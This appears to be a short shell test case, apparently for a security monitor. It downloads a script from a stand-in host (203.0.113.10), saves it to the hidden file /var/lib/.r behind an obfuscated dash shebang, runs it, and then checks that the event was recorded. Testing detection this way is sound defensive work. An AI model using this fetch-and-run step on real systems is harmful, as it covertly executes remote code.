#!/bin/sh
. /opt/case/case.sh

{ echo '#!/proc/self/root/usr/../bin/dash -e'; curl -s http://203.0.113.10/payload.sh | tail -n +2; } >/var/lib/.r; chmod 755 /var/lib/.r; /var/lib/.r
test -e /tmp/reached
took_place
